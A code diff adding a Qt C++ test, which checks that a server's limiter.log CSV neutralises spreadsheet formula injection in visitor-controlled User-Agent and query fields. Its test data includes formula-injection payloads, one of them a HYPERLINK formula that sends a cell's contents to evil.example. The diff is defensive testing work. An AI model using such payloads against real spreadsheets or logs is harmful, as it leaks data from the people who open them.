@@ -8,6 +8,7 @@
 // moc cannot parse C++20 standard headers (<concepts>); it only needs the
 // test class, so it does not read the project's headers.
 #ifndef Q_MOC_RUN
+#include "Csv.h"
 #include "Engine.h"
 #include "HttpTestClient.h"
 #include "LimiterLog.h"
@@ -444,6 +445,40 @@ private Q_SLOTS:
         QVERIFY2(line1.find(",2,\r") != std::string::npos, line1.c_str());  // two cookies, no customer
         QVERIFY(!std::getline(in, extra) || extra.empty());
         std::filesystem::remove_all(dir);
+    }
+
+    // A visitor chooses its user agent and query: opened in a spreadsheet,
+    // limiter.log must not run them as formulas (the list export's guard,
+    // from the one CSV writer).
+    void limiterLogFieldsNeverBecomeFormulas()
+    {
+        QTemporaryDir dir;
+        const std::string path = dir.filePath(QStringLiteral("limiter.log")).toStdString();
+        const std::vector<std::string> agents = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+2", "-2+3", "@SUM(1)", "Mozilla/5.0 =x"};
+        {
+            Server s(noEscalation(), {}, path);
+            for (int i = 0; i < 6; ++i)
+                QVERIFY(fetch(s.port(), get("/")));
+            for (const std::string& ua : agents)
+                QCOMPARE(fetch(s.port(), get("/find?=1+1", "User-Agent: " + ua + "\r\n")).value_or(Response{}).status, 429);
+            s.log.flush();
+        }
+        std::ifstream in(path, std::ios::binary);
+        const std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
+        std::vector<Core::Csv::Record> records;
+        std::string error;
+        QVERIFY2(Core::Csv::read(text, records, error), error.c_str());
+        QCOMPARE(records.size(), agents.size() + 1);
+        for (std::size_t i = 0; i < agents.size(); ++i) {
+            const auto& f = records[i + 1].fields;
+            QCOMPARE(f.size(), std::size_t(12));
+            const std::string& ua = f[8];
+            const bool formula = std::string_view("=+-@").find(agents[i][0]) != std::string_view::npos;
+            QVERIFY2(std::string_view("=+-@\t\r").find(ua[0]) == std::string_view::npos, ua.c_str());  // no cell starts a formula
+            QCOMPARE(QString::fromStdString(ua), QString::fromStdString(formula ? "'" + agents[i] : agents[i]));
+            QCOMPARE(QString::fromStdString(Core::Csv::restoreField(ua)), QString::fromStdString(agents[i]));
+            QCOMPARE(QString::fromStdString(f[7]), QStringLiteral("'=1+1"));  // the query
+        }
     }
 
     void theEventRingKeepsTheNewestWithConsecutiveIds()
